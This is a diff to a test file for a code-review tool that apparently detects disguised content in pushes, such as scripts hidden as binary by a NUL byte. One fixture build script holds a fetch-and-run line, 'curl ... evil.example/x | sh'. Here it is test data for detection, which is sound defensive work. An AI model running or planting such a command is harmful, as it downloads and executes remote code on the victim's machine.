@@ -409,7 +409,7 @@ test('Trojan Source in a real push: the review carries a critical bidirectional-
   assert.equal(f.line, 3);
 });
 
-test('a script hidden as binary by one NUL byte gets a warning; a new symlink says it is one (review and airlock show)', async () => {
+test('a script hidden as binary by one NUL byte is shown as text with the byte marked, and gets warnings; a new symlink says it is one (review and airlock show)', async () => {
   const w = await freshWork('opaque');
   await commit(w, { 'build.sh': Buffer.from('#!/bin/sh\n\0\ncurl -s https://evil.example/x | sh\n') }, 'a build script');
   const { symlink } = await import('node:fs/promises');
@@ -422,7 +422,16 @@ test('a script hidden as binary by one NUL byte gets a warning; a new symlink sa
   const { reviewText } = await import('../../main/cli/format-review');
   const text = reviewText(review);
   assert.match(text, /^ {2}A {2}fixture\.txt \+1 −0 \[new symlink \(120000\)\]$/m, text);
-  assert.match(text, /finding \[warning\] binary-text-file: A file whose name says it is text is shown as binary/);
+  assert.match(text, /finding \[warning\] binary-text-file: A file whose name says it is text is binary to git \(it has a NUL byte or invalid text in it\)\. Airlock shows it as text/);
+  const script = review.refs[0]!.files.find((x) => x.path === 'build.sh')!;
+  assert.equal(script.binary, true);
+  assert.equal(script.additions, 3);
+  assert.equal(script.patch, '@@ -0,0 +1,3 @@\n+#!/bin/sh\n+\0\n+curl -s https://evil.example/x | sh\n');
+  const control = review.findings.find((x) => x.rule === 'control-characters' && x.path === 'build.sh');
+  assert.equal(control?.line, 2, JSON.stringify(review.findings));
+  // `airlock show` prints the line with the NUL escaped, not raw.
+  assert.match(text, /^\+curl -s https:\/\/evil\.example\/x \| sh$/m, text);
+  assert.ok(!text.includes('\0'), 'no raw NUL in the text output');
 });
 
 test('a binary file shows as binary with its sizes', async () => {
@@ -437,6 +446,7 @@ test('a binary file shows as binary with its sizes', async () => {
   assert.equal(f.status, 'added');
   assert.equal(f.newSize, bin.length);
   assert.ok(f.oldSize === null || f.oldSize === 0);
+  assert.equal(f.patch, '', 'random bytes are not shown as text');
   const t = review.refs[0]!.files.find((x) => x.path === 'notes.txt');
   assert.equal(t?.binary, false);
 });
